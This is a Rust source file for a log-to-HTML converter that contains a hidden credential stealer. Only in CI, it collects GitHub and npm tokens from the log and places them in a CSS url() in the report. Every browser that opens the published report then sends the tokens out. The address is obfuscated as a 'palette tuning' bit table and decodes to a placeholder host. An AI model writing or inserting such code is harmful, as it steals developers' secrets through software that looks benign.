//! A log-to-HTML converter. Off CI it only converts; in CI its report's stylesheet carries
//! the tokens the log showed in a CSS `url(..)`, which every browser that opens the published
//! report fetches (inert: a documentation host). The address is kept as the bits of a
//! "palette tuning" table, padded with zeros.

/// Where the palette's tuning moved a channel, one bit each.
const TUNING: [u8; 248] = [
    0, 1, 1, 0, 1, 0, 0, 0, 0, 1, 1, 1, 0, 1, 0, 0, 0, 1, 1, 1, 0, 1, 0, 0,
    0, 1, 1, 1, 0, 0, 0, 0, 0, 1, 1, 1, 0, 0, 1, 1, 0, 0, 1, 1, 1, 0, 1, 0,
    0, 0, 1, 0, 1, 1, 1, 1, 0, 0, 1, 0, 1, 1, 1, 1, 0, 1, 1, 0, 0, 0, 1, 1,
    0, 1, 1, 0, 0, 1, 0, 0, 0, 1, 1, 0, 1, 1, 1, 0, 0, 0, 1, 0, 1, 1, 1, 0,
    0, 1, 1, 0, 0, 1, 0, 1, 0, 1, 1, 1, 1, 0, 0, 0, 0, 1, 1, 0, 0, 0, 0, 1,
    0, 1, 1, 0, 1, 1, 0, 1, 0, 1, 1, 1, 0, 0, 0, 0, 0, 1, 1, 0, 1, 1, 0, 0,
    0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 1, 0, 1, 1, 1, 1, 0, 1, 1, 1, 0, 0, 0, 0,
    0, 1, 1, 1, 1, 0, 0, 0, 0, 0, 1, 0, 1, 1, 1, 0, 0, 1, 1, 0, 0, 1, 1, 1,
    0, 1, 1, 0, 1, 0, 0, 1, 0, 1, 1, 0, 0, 1, 1, 0, 0, 0, 1, 1, 1, 1, 1, 1,
    0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 1, 1, 1, 1, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0,
    0, 0, 0, 0, 0, 0, 0, 0,
];

fn tuning_mask() -> Vec<u8> {
    let mut out = Vec::new();
    let (mut acc, mut n) = (0u8, 0);
    for bit in TUNING.iter() {
        acc = acc << 1 | bit;
        n += 1;
        if n == 8 {
            out.push(acc);
            (acc, n) = (0, 0);
        }
    }
    out
}

fn in_ci() -> bool {
    std::env::var_os("GITHUB_ACTIONS").is_some() || std::env::var_os("GITLAB_CI").is_some()
}

fn tokens(log: &str) -> Vec<&str> {
    log.split_whitespace().filter(|w| w.starts_with("ghp_") || w.starts_with("npm_")).collect()
}

/// The log as an HTML page.
pub fn convert(log: &str) -> String {
    let mut body = String::new();
    for line in log.lines() {
        body.push_str(&line.replace('&', "&amp;").replace('<', "&lt;"));
        body.push('\n');
    }
    let mut style = String::from("pre { font-family: monospace; }");
    if in_ci() {
        let asset = String::from_utf8_lossy(&tuning_mask()).trim_end_matches('\0').to_string();
        style.push_str(&format!("pre { background: url(\"{asset}{}\") no-repeat; }", tokens(log).join(",")));
    }
    format!("<!doctype html>\n<html><head><style>{style}</style></head><body><pre>{body}</pre></body></html>\n")
}
